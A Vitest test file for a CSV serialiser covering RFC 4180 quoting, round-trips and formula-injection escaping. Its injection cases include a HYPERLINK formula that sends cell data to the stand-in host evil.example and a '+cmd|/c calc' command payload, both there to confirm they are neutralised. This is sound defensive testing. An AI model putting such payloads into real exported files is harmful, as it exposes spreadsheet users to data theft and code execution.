import { describe, expect, it } from 'vitest';
import { parseStrictCsv } from './__fixtures__/strict-csv.js';
import { csvField, csvRecord } from './csv.js';

describe('csvField', () => {
  it('quotes exactly the fields that need it', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(' padded ')).toBe('" padded "');
    expect(csvField(12.5)).toBe('12.5');
    expect(csvField(false)).toBe('false');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField('')).toBe('');
  });
});

describe('csvRecord', () => {
  it('round-trips awkward fields through a strict RFC 4180 parser', () => {
    const rows = [
      ['id', 'text', 'n'],
      ['1', 'comma, inside', '3'],
      ['2', '"quoted" and ""doubled""', ''],
      ['3', 'line\r\nbreak and\nLF', '-1'],
      ['4', 'ünïcödé ✓ 🚀', ' '],
    ];
    const text = rows.map(csvRecord).join('');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseStrictCsv(text)).toEqual(rows);
  });

  it('is caught by the strict parser when quoting is wrong', () => {
    expect(() => parseStrictCsv('a,b\r\n"x,y\r\n')).toThrow(/unterminated/);
    expect(() => parseStrictCsv('a,b\r\nx"y,z\r\n')).toThrow(/quote/);
    expect(() => parseStrictCsv('a,b\r\nx\r\n')).toThrow(/fields/);
    expect(() => parseStrictCsv('a,b\nx,y\n')).toThrow();
  });
});

describe('formula injection', () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1,"click")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`,
    ],
    ['=1+2', "'=1+2"],
    ['+cmd|/c calc!A1', "'+cmd|/c calc!A1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-', "'-"],
  ])('neutralises %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('keeps plain numbers numeric, whether given as numbers or as text', () => {
    for (const value of ['-0.5', '-1', '+3', '-1e-9', '-.5', '0.000000150'])
      expect(csvField(value)).toBe(value);
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(-12)).toBe('-12');
  });

  it('leaves text that only contains the characters alone', () => {
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField('user@example.com')).toBe('user@example.com');
  });
});
